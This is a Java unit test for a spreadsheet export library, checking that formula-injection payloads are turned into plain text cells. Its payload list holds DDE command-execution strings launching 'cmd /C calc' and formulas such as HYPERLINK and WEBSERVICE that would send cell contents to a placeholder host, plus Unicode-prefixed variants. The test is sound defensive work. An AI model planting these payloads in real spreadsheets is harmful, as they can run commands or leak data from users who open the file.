package org.koldoo.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.koldoo.files.Spreadsheet.Sheet;
import org.koldoo.testing.Asvs;

/** Nothing that leaves the program in a table is ever taken for a formula. */
class CellsTest {

    private static List<String> payloads() {
        var all = new ArrayList<String>();
        var formulas = List.of(
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                "=WEBSERVICE(\"http://x\")",
                "=IMPORTXML(\"http://x\",\"//a\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "|cmd",
                "%0A=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)");
        all.addAll(formulas);
        for (var start :
                List.of(" ", "\t", "\r\n", "\u0000", "\uFEFF", "\u00A0", "\u200B", "\u3000", "\u202E", "\u2003")) {
            all.add(start + "=1+1");
            all.add(start + "@SUM(1)");
            all.add(start + "＝1+1");
        }
        return all;
    }

    @Test
    @Asvs("V1.2.10")
    void fortyPayloadsStayText() {
        assertThat(payloads()).hasSizeGreaterThanOrEqualTo(40);
        assertThat(payloads()).allMatch(payload -> Cells.safe(payload).startsWith("'"));
        var rows = payloads().stream().map(List::of).toList();
        var parts = Books.parts(Spreadsheet.of(List.of(new Sheet("x", rows))));
        assertThat(parts).noneMatch(part -> part.contains("<f>") || part.contains("<f "));
        var sheet = parts.stream()
                .filter(part -> part.contains("<sheetData"))
                .findFirst()
                .orElseThrow();
        assertThat(sheet.split("<c ", -1)).hasSize(payloads().size() + 1);
        assertThat(sheet.split("t=\"s\"|t=\"inlineStr\"", -1))
                .as("every cell is text")
                .hasSize(payloads().size() + 1);
    }

    @Test
    void ordinaryWordsAndNumbersStayAsTheyAre() {
        assertThat(List.of("a=b", "Айгүл", "NRM-1", "26.11.2026", "", "e-mail"))
                .allMatch(cell -> Cells.safe(cell).equals(cell));
        assertThat(Cells.safe("x".repeat(40_000))).hasSize(32_001);
    }
}
